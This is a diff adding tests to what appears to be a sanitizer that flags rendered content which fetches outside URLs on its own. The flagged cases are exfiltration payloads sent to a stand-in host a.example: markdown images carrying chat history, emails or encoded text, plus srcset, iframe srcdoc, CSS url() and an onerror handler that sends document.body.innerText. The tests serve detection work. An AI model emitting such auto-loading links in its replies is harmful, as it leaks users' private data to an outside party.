@@ -162,3 +162,27 @@ test.each([
   expect(clean(cleaned).cleaned).toBe(cleaned);
   expect(Object.values(WITNESSES).flatMap((witness) => witness(cleaned))).toEqual([]);
 });
+
+describe("what a page would fetch by itself carries data in more ways than one", () => {
+  test.each([
+    "<img srcset='https://a.example/x?d=obqxg43xn5zgiidjomqgq5loorsxemramfxgiidunbssa4djny 2x'>",
+    "![x](https://a.example/i.png?d=%%CHAT%%)",
+    "![x](https://a.example/i.png?d={user_email})",
+    "![x](https://a.example/i.png?u=kim%40corp.example)",
+    "![x](https://a.example/i.png?d=the+board+sells+the+plant+in+may)",
+    "<iframe srcdoc=\"&lt;img src='https://a.example/?d={{history}}'&gt;\"></iframe>",
+    "<div style=\"background:u\\72l(https://a.example/?d={{history}})\">a</div>",
+    "<img src=x onerror=\"new Image().src='//a.example/?'+btoa(document.body.innerText)\">",
+  ])("%s", (text) => {
+    expect(clean(text).findings.some(({ severity }) => severity === "medium" || severity === "high")).toBe(true);
+  });
+
+  test.each([
+    "![x](https://a.example/badge.svg?label=build+of+the+main+branch+today)",
+    "![x](https://a.example/{z}/{x}/{y}.png)",
+    "[install](https://cursor.com/install-mcp?name=n&config=eyJjb21tYW5kIjoibm9kZSIsImFyZ3MiOlsiYSJdfQ)",
+    "<button onclick=\"location='/home'\">home</button>",
+  ])("%s is none", (text) => {
+    expect(clean(text).findings.every(({ severity }) => severity === "info" || severity === "low")).toBe(true);
+  });
+});
